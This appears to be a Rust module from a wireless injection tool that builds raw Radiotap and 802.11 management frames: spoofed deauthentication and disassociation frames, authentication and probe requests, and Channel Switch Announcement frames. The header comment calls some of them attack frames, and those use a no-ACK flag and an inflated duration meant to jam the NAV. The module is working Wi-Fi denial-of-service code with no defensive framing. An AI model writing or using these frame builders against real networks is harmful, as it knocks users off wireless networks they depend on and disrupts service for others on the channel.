//! Management-frame synthesis for the injection engine.
//!
//! Every builder returns a complete Radiotap + 802.11 byte buffer ready
//! for a raw socket or pcap send. Attack frames carry the no-ACK
//! Radiotap flag and a 0x1388 duration to inflate the NAV.

use crate::model::Mac;

use super::dot11::{
    self, DURATION_NAV_JAM, SUBTYPE_ACTION, SUBTYPE_AUTH, SUBTYPE_DEAUTH, SUBTYPE_DISASSOC,
    SUBTYPE_PROBE_REQ,
};
use super::radiotap::{self, FLAG_NO_ACK};

/// 1 Mbps in 500 kbps units — the legacy rate injected frames ride on.
pub const INJECT_RATE: u8 = 0x02;

/// Supported Rates IE payload (1, 2, 5.5, 11 Mbps, basic-rate bit set).
const SUPPORTED_RATES: [u8; 4] = [0x82, 0x84, 0x8B, 0x96];

/// Extended Supported Rates IE payload (6..54 Mbps).
const EXTENDED_RATES: [u8; 8] = [0x0C, 0x12, 0x18, 0x24, 0x30, 0x48, 0x60, 0x6C];

fn frame(subtype: u8, duration: u16, a1: Mac, a2: Mac, a3: Mac, seq: u16, body: &[u8]) -> Vec<u8> {
    let mut buf = radiotap::synthesize(INJECT_RATE, FLAG_NO_ACK);
    buf.extend(dot11::serialize_mgmt(subtype, duration, a1, a2, a3, seq));
    buf.extend_from_slice(body);
    buf
}

/// Deauthentication frame with the given reason code.
pub fn deauth(addr1: Mac, addr2: Mac, addr3: Mac, seq: u16, reason: u16) -> Vec<u8> {
    frame(
        SUBTYPE_DEAUTH,
        DURATION_NAV_JAM,
        addr1,
        addr2,
        addr3,
        seq,
        &reason.to_le_bytes(),
    )
}

/// Disassociation frame with the given reason code.
pub fn disassoc(addr1: Mac, addr2: Mac, addr3: Mac, seq: u16, reason: u16) -> Vec<u8> {
    frame(
        SUBTYPE_DISASSOC,
        DURATION_NAV_JAM,
        addr1,
        addr2,
        addr3,
        seq,
        &reason.to_le_bytes(),
    )
}

/// Open System authentication request: algorithm 0, transaction 1,
/// status 0.
pub fn auth(addr1: Mac, addr2: Mac, addr3: Mac, seq: u16) -> Vec<u8> {
    let mut body = Vec::with_capacity(6);
    body.extend_from_slice(&0u16.to_le_bytes()); // algorithm: open
    body.extend_from_slice(&1u16.to_le_bytes()); // transaction sequence
    body.extend_from_slice(&0u16.to_le_bytes()); // status: success
    frame(SUBTYPE_AUTH, 0, addr1, addr2, addr3, seq, &body)
}

/// Broadcast probe request for `ssid` with the fixed rates IEs.
pub fn probe_request(source: Mac, seq: u16, ssid: &str) -> Vec<u8> {
    let mut body = Vec::new();
    body.push(0); // SSID tag
    body.push(ssid.len() as u8);
    body.extend_from_slice(ssid.as_bytes());
    body.push(1); // Supported Rates
    body.push(SUPPORTED_RATES.len() as u8);
    body.extend_from_slice(&SUPPORTED_RATES);
    body.push(50); // Extended Supported Rates
    body.push(EXTENDED_RATES.len() as u8);
    body.extend_from_slice(&EXTENDED_RATES);
    frame(
        SUBTYPE_PROBE_REQ,
        0,
        Mac::BROADCAST,
        source,
        Mac::BROADCAST,
        seq,
        &body,
    )
}

/// Channel Switch Announcement action frame: category 0, action 4, CSA
/// IE with mode 1 (clients must stop transmitting until the switch).
pub fn csa(addr1: Mac, addr2: Mac, addr3: Mac, seq: u16, new_channel: u8, count: u8) -> Vec<u8> {
    let body = [0x00, 0x04, 0x25, 0x03, 0x01, new_channel, count];
    frame(
        SUBTYPE_ACTION,
        DURATION_NAV_JAM,
        addr1,
        addr2,
        addr3,
        seq,
        &body,
    )
}
